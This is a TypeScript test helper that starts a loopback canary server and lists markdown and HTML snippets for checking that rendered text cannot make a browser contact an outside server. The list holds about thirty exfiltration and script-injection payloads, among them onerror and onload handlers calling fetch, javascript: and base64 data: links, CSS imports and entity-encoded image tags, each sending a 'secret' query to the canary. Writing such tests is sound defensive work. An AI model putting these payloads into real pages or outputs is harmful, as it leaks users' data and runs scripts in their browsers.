import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

export interface Canary {
  origin: string
  /** The paths asked for so far. */
  requests: string[]
  close(): Promise<void>
}

/** A server on a free loopback port that nothing should ever ask for anything. */
export async function startCanary(): Promise<Canary> {
  const requests: string[] = []
  const server = createServer((request, response) => {
    requests.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    origin: `http://127.0.0.1:${port}`,
    requests,
    async close() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

/** Markup by which a text could make a browser ask a server for something, or run a script that does. */
export function callingHome(origin: string): string[] {
  const url = (name: string) => `${origin}/${name}?q=secret`
  const encoded = [...`<img src="${url('entity')}">`].map((character) => `&#${character.codePointAt(0)};`).join('')
  return [
    `![chart](${url('markdown')})`,
    `[![badge](${url('linked-image')})](${url('link')} "title")`,
    `![ref][img]\n\n[img]: ${url('reference')}`,
    `<${url('autolink')}>`,
    `<img src="${url('img')}">`,
    `<img srcset="${url('srcset')} 1x, ${url('srcset-2')} 2x" src="">`,
    `<picture><source srcset="${url('source')}"><img src="${url('picture')}"></picture>`,
    `<img src=x onerror="fetch('${url('onerror')}')">`,
    `<iframe src="${url('iframe')}"></iframe>`,
    `<iframe srcdoc="<img src='${url('srcdoc')}'>"></iframe>`,
    `<object data="${url('object')}"></object><embed src="${url('embed')}">`,
    `<video poster="${url('poster')}" src="${url('video')}" autoplay></video><audio src="${url('audio')}" autoplay></audio>`,
    `<link rel="stylesheet" href="${url('stylesheet')}"><link rel="prefetch" href="${url('prefetch')}">`,
    `<style>@import url(${url('import')}); body { background: url(${url('css')}) }</style>`,
    `<div style="background-image: url('${url('style')}')">x</div>`,
    `<svg width="9" height="9"><image href="${url('svg-image')}"/><use href="${url('svg-use')}#a"/></svg>`,
    `<svg onload="fetch('${url('svg-onload')}')"></svg>`,
    `<meta http-equiv="refresh" content="0; url=${url('refresh')}">`,
    `<base href="${url('base')}">`,
    `<form action="${url('form')}"><input type="image" src="${url('input')}"></form>`,
    `<table background="${url('background')}"><tr><td>x</td></tr></table>`,
    `<script src="${url('script')}"></script><script>fetch('${url('fetch')}')</script>`,
    `<details open ontoggle="fetch('${url('toggle')}')">x</details>`,
    `[go](javascript:fetch('${url('javascript')}'))`,
    `[open](data:text/html;base64,${Buffer.from(`<img src="${url('data')}">`).toString('base64')})`,
    encoded,
    `| a | b |\n| - | - |\n| ![cell](${url('cell')}) | <img src="${url('cell-img')}"> |`,
    `> <img src="${url('quote')}">\n\n- ![item](${url('item')})`,
  ]
}
